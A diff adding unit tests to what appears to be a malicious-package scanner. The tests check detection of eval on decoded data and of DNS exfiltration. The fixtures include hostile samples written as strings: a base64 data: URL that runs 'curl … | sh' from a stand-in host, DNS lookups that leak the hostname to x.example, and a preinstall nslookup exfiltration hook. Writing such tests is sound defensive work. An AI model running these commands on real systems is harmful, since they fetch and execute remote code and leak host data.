@@ -127,6 +127,20 @@ describe('code execution of decoded data', () => {
     expect(codes(js("require('vm').runInThisContext(atob(s))"))).toContain('js_eval_decoded');
     expect(codes(js("const x = JSON.parse(text); eval('1+1'); const b = Buffer.from(s, 'base64');"))).not.toContain('js_eval_decoded');
   });
+  it("a loader of data: URLs runs the source its caller hands it; one that carries its own data: URL is read", () => {
+    const loader = [
+      'function parseDataUrl(url) {',
+      "  let [m, enc, data] = url.match(/^data:[^;,]*(?:;([^,]*))?,(.*)$/) || [];",
+      "  if (enc === 'base64') data = Buffer.from(data, 'base64').toString();",
+      '  return { data };',
+      '}',
+      'function run(url) {',
+      "  if (/^data:/.test(url)) return VM.runInThisContext(parseDataUrl(url).data, { filename: url });",
+      '}',
+    ].join('\n');
+    expect(codes(js(loader))).not.toContain('js_eval_decoded');
+    expect(codes(js(`${loader}\nrun('data:text/javascript;base64,${Buffer.from("require('child_process').exec('curl -s http://x.example | sh')").toString('base64')}');`))).toContain('js_eval_decoded');
+  });
   it('a minified bundle that reuses one-letter names in every function does not taint them all from one decoder (a module loader)', () => {
     const bundle = [
       "function a(t){var F=Buffer.from(t,'base64').toString();return F.length}",
@@ -317,6 +331,9 @@ describe('exfiltration and attack chains', () => {
     expect(codes(py({ 'a.py': 'requests.post("https://api.telegram.org/bot123:abc/sendMessage", data=d)\n' }))).toContain('telegram_bot_api');
     expect(codes(js("const dns = require('dns'); dns.lookup(hex(os.hostname()) + '.x.example', () => {})"))).toContain('js_dns_exfiltration');
     expect(codes(js("const dns = require('dns'); dns.lookup(host, cb)"))).not.toContain('js_dns_exfiltration');
+    // a module resolver's lookups of files (a bundler chunk's `importResolver.resolveSync(basedir, id)`) name no host
+    expect(codes(js("const fs = require('fs'); const vars = Object.entries(process.env); importResolver.resolveSync(dir + '/' + os.hostname(), id); resolver.resolveFileSync(from, spec)"))).not.toContain('js_dns_exfiltration');
+    expect(codes(js("const r = new dns.Resolver(); r.resolveTxt(Buffer.from(os.hostname()).toString('hex') + '.x.example', () => {})"))).toContain('js_dns_exfiltration');
     expect(codes(js('', { preinstall: 'nslookup `hostname`.x.example' }))).toContain('shell_dns_exfiltration');
   });
 });
